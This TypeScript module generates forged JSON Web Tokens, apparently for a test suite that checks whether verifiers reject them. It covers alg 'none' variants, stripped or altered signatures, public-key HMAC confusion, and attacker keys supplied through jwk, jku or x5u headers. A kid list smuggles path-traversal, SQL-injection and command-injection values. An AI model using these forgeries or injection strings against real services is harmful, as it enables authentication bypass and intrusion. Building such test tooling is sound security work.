/**
 * Forged JWTs an attacker would present instead of a genuine one (RFC 8725 §2, §3): each forge*
 * function makes one forgery from a genuine compact JWS, for scenarios that need just one;
 * `jwtForgery` (jwt-forgery.ts) draws them all.
 */
import { createPublicKey, type JsonWebKey } from 'node:crypto';
import type { AttackerKey } from './attacker-keys.ts';
import { base64url, decodeJws, encodeJson, signCompact, type JsonObject, type JwsSigner } from './jws.ts';

/** Every upper/lower-case spelling of "none" (RFC 7518 §3.6): none, None, NONE, nOnE, ... */
export const ALG_NONE_SPELLINGS: readonly string[] = Array.from({ length: 16 }, (_, bits) =>
  [...'none'].map((c, i) => ((bits >> i) & 1 ? c.toUpperCase() : c)).join(''),
);

/** kid values that attack the server's key lookup (RFC 7515 §4.1.4, RFC 8725 §3.10). */
export const KID_INJECTIONS: readonly { variant: string; kid: unknown; hmacSecret?: string }[] = [
  // A file-based key store reading /dev/null gets an empty key: sign HS256 with an empty secret.
  { variant: 'path-traversal-dev-null', kid: '../../../../../../../../dev/null', hmacSecret: '' },
  { variant: 'absolute-dev-null', kid: '/dev/null', hmacSecret: '' },
  // A SQL key store returning the attacker's literal as the key.
  { variant: 'sql-union', kid: "x' UNION SELECT 'attacker-secret' -- ", hmacSecret: 'attacker-secret' },
  { variant: 'sql-tautology', kid: "' OR '1'='1" },
  { variant: 'command', kid: 'key|id' },
  { variant: 'unknown', kid: 'attacker-unknown-kid' },
  { variant: 'empty', kid: '' },
  { variant: 'non-string', kid: 12345 },
];

/** Header and payload as they are, signature gone or kept, alg set to a spelling of none (RFC 8725 §3.1). */
export function forgeAlgNone(token: string, spelling = 'none', keepSignature = false): string {
  const { header, segments } = decodeJws(token);
  return `${encodeJson({ ...header, alg: spelling })}.${segments[1]}.${keepSignature ? segments[2] : ''}`;
}

/** The genuine payload re-signed by `signer`, with header members changed (undefined drops one). */
export function resignJws(token: string, headerChanges: JsonObject, signer: JwsSigner): string {
  const { header, segments } = decodeJws(token);
  return signCompact({ ...header, ...headerChanges }, segments[1], signer);
}

/** HS256 with the server's public key as the HMAC secret (RFC 8725 §2.1 "key confusion"). */
export function forgeHs256KeyConfusion(token: string, secret: Uint8Array): string {
  return resignJws(token, {}, { alg: 'HS256', key: secret });
}

/**
 * The byte strings a confused server might use as the HMAC secret for a public JWK: the PEM it
 * would load from disk (with and without its final newline), DER, the JWK as JSON, the raw key.
 */
export interface KeyConfusionSecret {
  encoding: string;
  secret: Uint8Array;
}

export function keyConfusionSecrets(jwk: JsonWebKey): KeyConfusionSecret[] {
  const key = createPublicKey({ key: jwk, format: 'jwk' });
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const publicMembers: Record<string, string[]> = {
    RSA: ['e', 'kty', 'n'],
    EC: ['crv', 'kty', 'x', 'y'],
    OKP: ['crv', 'kty', 'x'],
  };
  const members = publicMembers[String(jwk.kty)] ?? [];
  const thumbprintInput = JSON.stringify(Object.fromEntries(members.map((m) => [m, jwk[m]]))); // RFC 7638 §3
  const b64 = (member: string): Buffer => Buffer.from(String(jwk[member] ?? ''), 'base64url');
  const secrets: KeyConfusionSecret[] = [
    { encoding: 'pem-spki', secret: Buffer.from(pem) },
    { encoding: 'pem-spki-trimmed', secret: Buffer.from(pem.trimEnd()) },
    { encoding: 'der-spki', secret: key.export({ type: 'spki', format: 'der' }) },
    { encoding: 'jwk-json', secret: Buffer.from(JSON.stringify(jwk)) },
    { encoding: 'jwk-thumbprint-json', secret: Buffer.from(thumbprintInput) },
  ];
  if (jwk.kty === 'RSA') {
    secrets.push(
      { encoding: 'pem-pkcs1', secret: Buffer.from(key.export({ type: 'pkcs1', format: 'pem' }).toString()) },
      { encoding: 'der-pkcs1', secret: key.export({ type: 'pkcs1', format: 'der' }) },
      { encoding: 'modulus-raw', secret: b64('n') },
      { encoding: 'modulus-base64url', secret: Buffer.from(String(jwk.n)) },
    );
  } else if (jwk.kty === 'EC') {
    secrets.push({ encoding: 'point-raw', secret: Buffer.concat([Buffer.of(4), b64('x'), b64('y')]) });
  } else if (jwk.kty === 'OKP') {
    secrets.push({ encoding: 'x-raw', secret: b64('x') });
  }
  return secrets;
}

/** `header.payload.` (or `header.payload` without the last dot): no signature at all (RFC 7515 §5.2). */
export function forgeStrippedSignature(token: string, dropLastDot = false): string {
  const [header, payload] = decodeJws(token).segments;
  return dropLastDot ? `${header}.${payload}` : `${header}.${payload}.`;
}

/** The signature with one bit flipped (bit index taken modulo the signature's length). */
export function forgeChangedSignature(token: string, bit: number): string {
  const [header, payload, signature] = decodeJws(token).segments;
  const bytes = Buffer.from(signature, 'base64url');
  if (bytes.length === 0) throw new Error('the token has no signature to change');
  const at = bit % (bytes.length * 8);
  bytes[at >> 3]! ^= 1 << (at & 7);
  return `${header}.${payload}.${base64url(bytes)}`;
}

/** Claims changed (undefined removes one), the original header and signature kept (RFC 7515 §5.2). */
export function forgeClaimsChanged(token: string, changes: JsonObject): string {
  const { payload, segments } = decodeJws(token);
  return `${segments[0]}.${encodeJson({ ...payload, ...changes })}.${segments[2]}`;
}

/** The payload re-signed under an injected kid, by the attacker's key or the HMAC secret the injection aims at. */
export function forgeKidInjection(token: string, kid: unknown, signer: JwsSigner): string {
  return resignJws(token, { kid }, signer);
}

/**
 * Signed by the attacker, who puts the public key in the header's `jwk` (RFC 7515 §4.1.3, RFC 8725 §3.10).
 * `kid`: the header's kid, null for none (here and in forgeJku, forgeX5u).
 */
export function forgeEmbeddedJwk(token: string, key: AttackerKey, kid: string | null = key.kid): string {
  return resignJws(token, { jwk: key.publicJwk, kid: kid ?? undefined }, key);
}

/** Signed by the attacker, whose JWKS is at `url` (`jku`, RFC 7515 §4.1.2). */
export function forgeJku(token: string, key: AttackerKey, url: string, kid: string | null = key.kid): string {
  return resignJws(token, { jku: url, kid: kid ?? undefined }, key);
}

/** Signed by the attacker, whose certificate chain is at `url` (`x5u`, RFC 7515 §4.1.5). */
export function forgeX5u(token: string, key: AttackerKey, url: string, kid: string | null = key.kid): string {
  return resignJws(token, { x5u: url, kid: kid ?? undefined }, key);
}
